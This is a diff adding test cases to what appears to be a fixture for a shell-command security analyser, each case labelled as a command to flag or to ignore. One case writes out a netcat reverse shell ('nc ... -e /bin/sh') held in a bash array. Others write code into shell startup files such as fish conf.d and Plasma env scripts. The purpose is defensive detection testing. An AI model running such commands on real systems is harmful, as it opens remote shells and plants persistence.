@@ -259,3 +259,19 @@ apt-get -o Acquire::Retries=3 update
 echo 'sh -c id' >> ~/.xsessionrc
 #@ neg echo into a file named like xprofile
 echo 'sh -c id' >> notes.xprofile.txt
+#@ pos tar -F's info script is analysed
+tar -c -f /dev/null -L 1 -F './next-volume.sh' /etc/hosts
+#@ pos code written into fish's conf.d or Plasma's env directory is analysed
+printf '%s\n' 'set -gx EDITOR vim' > ~/.config/fish/conf.d/abbr.fish
+printf '%s\n' 'export PATH=$HOME/bin:$PATH' > ~/.config/plasma-workspace/env/path.sh
+#@ neg tar's -f and -C are no commands
+tar -cf backup.tar -C /srv data
+#@ pos a command line held in an array, run whole, is analysed
+cmd=(nc 10.0.0.1 4444 -e /bin/sh)
+"${cmd[@]}"
+#@ neg an array run with words of its own after it, or one element
+cmd=(batch -f)
+"${cmd[@]}" "$job"
+"${cmd[0]}"
+#@ pos systemd's pager variable is analysed
+SYSTEMD_PAGER='less -FRX' journalctl -b
